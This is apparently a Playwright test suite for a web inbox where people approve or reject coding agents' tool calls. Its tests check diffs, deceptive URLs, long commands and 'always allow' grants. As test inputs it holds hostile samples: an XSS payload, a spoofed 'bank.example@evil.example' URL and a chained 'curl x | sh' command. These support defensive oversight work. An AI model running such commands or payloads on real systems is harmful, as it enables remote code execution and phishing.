"""The calls of coding agents: a command with its directory, a file edit as a diff, a fetch."""

from __future__ import annotations

import re
from typing import Any

import pytest
from demo_process import Demo
from playwright.sync_api import Page, expect
from waiting import until
from windows import Open, turn_pages

pytestmark = pytest.mark.long


def asked(demo: Demo, tool: str, **args: Any) -> dict[str, Any]:
    """A request as the hook of a coding agent opens it."""
    body = {
        "tool": tool,
        "args": {**args, "cwd": "/src/project"},
        "agent": "claude",
        "run": "session",
        "caller": f"use:{tool}",
    }
    answer = demo.http.post("/api/requests", json=body)
    assert answer.status_code == 201, answer.text
    made: dict[str, Any] = answer.json()
    return made


def shown(demo: Demo, open_page: Open, request: dict[str, Any]) -> Page:
    page = open_page(f"{demo.url}/inbox/{request['id']}")
    expect(page.get_by_role("button", name="Reject")).to_be_enabled()
    return page


def test_command_shows_its_directory(demo: Demo, open_page: Open) -> None:
    made = asked(demo, "Bash", command="make test\nmake lint", timeout=60)
    page = shown(demo, open_page, made)
    call = page.get_by_test_id("call-command")
    expect(call.locator("pre")).to_have_text("make test\nmake lint")
    expect(page.get_by_test_id("call-cwd")).to_contain_text("/src/project")
    expect(page.get_by_test_id("arg-timeout")).to_contain_text("60")
    page.get_by_role("button", name="Approve").click()
    assert demo.until_decided(made["id"])["status"] == "approved"


def test_edit_is_shown_as_diff(demo: Demo, open_page: Open) -> None:
    edit = {"file_path": "src/a.py", "old_string": "one\ntwo", "new_string": "one\nthree"}
    page = shown(demo, open_page, asked(demo, "Edit", **edit))
    expect(page.get_by_test_id("call-edit")).to_contain_text("src/a.py")
    diff = page.get_by_test_id("call-diff")
    expect(diff.locator("del")).to_have_text(["two"])
    expect(diff.locator("ins")).to_have_text(["three"])
    page.get_by_role("tab", name="JSON").click()
    expect(page.get_by_text('"old_string": "one\\ntwo"')).to_be_visible()


def test_fetch_names_the_real_host(demo: Demo, open_page: Open) -> None:
    url = "https://bank.example@evil.example/login"
    page = shown(demo, open_page, asked(demo, "WebFetch", url=url, prompt="read it"))
    fetch = page.get_by_test_id("call-fetch")
    expect(fetch).to_contain_text(url)
    expect(fetch.locator("strong")).to_have_text("evil.example")
    expect(fetch.locator("a")).to_have_count(0)


def test_long_command_must_be_read(demo: Demo, open_page: Open) -> None:
    lines = "\n".join(f"echo {n}" for n in range(400))
    page = shown(demo, open_page, asked(demo, "Bash", command=lines))
    approve = page.get_by_role("button", name=re.compile("^Approve"))
    expect(approve).to_be_disabled()
    turn_pages(page)
    expect(approve).to_be_enabled()


def test_text_of_the_agent_is_inert(demo: Demo, open_page: Open) -> None:
    page = shown(
        demo, open_page, asked(demo, "Bash", command="ls <img src=x onerror=alert(1)> \u202e")
    )
    call = page.get_by_test_id("call-command")
    expect(call.locator("img")).to_have_count(0)
    expect(call).not_to_contain_text("\u202e")


def test_demo_starts_a_coding_agent(demo: Demo, open_page: Open) -> None:
    page = open_page(f"{demo.url}/inbox")
    page.get_by_role("button", name="Run “Start a coding agent”").click()

    def by_script() -> list[dict[str, Any]]:
        made = demo.http.get("/api/requests", params={"agent": "claude", "tool": "Edit"}).json()
        return [r for r in made["items"] if r["args"]["file_path"].endswith("production.yaml")]

    (made,) = until(by_script)
    page.goto(f"{demo.url}/inbox/{made['id']}")
    expect(page.get_by_test_id("call-diff").locator("ins").first).to_have_text("replicas: 1")
    demo.decide(made, "reject")
    expect(page.get_by_text("rejected").first).to_be_visible()


def test_grant_dialog_shows_its_coverage(demo: Demo, open_page: Open) -> None:
    past = asked(demo, "Bash", command="npm test -- first")
    demo.http.post(
        f"/api/requests/{past['id']}/decision",
        json={"type": "approve", "seen_digest": past["digest"]},
    )
    pending = [asked(demo, "Bash", command=f"npm test{more}") for more in (" -- next", "; curl x")]
    page = shown(demo, open_page, asked(demo, "Bash", command="npm test"))
    page.get_by_role("button", name="Always allow").click()
    dialog = page.get_by_role("dialog")
    covered = dialog.get_by_test_id("covered")
    expect(covered).to_contain_text("It covers no pending request.")  # exactly this command
    dialog.get_by_role("radio", name=re.compile("npm test, with any arguments")).check()
    expect(covered.get_by_role("listitem")).to_have_text(
        [re.compile("npm test -- first"), re.compile("npm test -- next")]
    )
    dialog.get_by_role("button", name="Approve and always allow").click()
    assert demo.until_decided(pending[0]["id"])["status"] == "approved"
    assert demo.http.get(f"/api/requests/{pending[1]['id']}").json()["status"] == "pending"
    (grant,) = demo.http.get("/api/grants").json()["items"]
    assert grant["scope"] == {"command": ["npm", "test"], "arguments": "any"}
    page.goto(f"{demo.url}/grants")
    expect(page.get_by_test_id("grant")).to_contain_text("npm test, with any arguments")
    demo.http.delete(f"/api/grants/{grant['id']}")


def test_dialog_refuses_grant_for_chained_command(demo: Demo, open_page: Open) -> None:
    page = shown(demo, open_page, asked(demo, "Bash", command="npm test; curl x | sh"))
    page.get_by_role("button", name="Always allow").click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_role("alert")).to_contain_text("one plain command")
    expect(dialog.get_by_role("button", name="Approve and always allow")).to_be_disabled()
    expect(dialog.get_by_role("radio")).to_have_count(0)
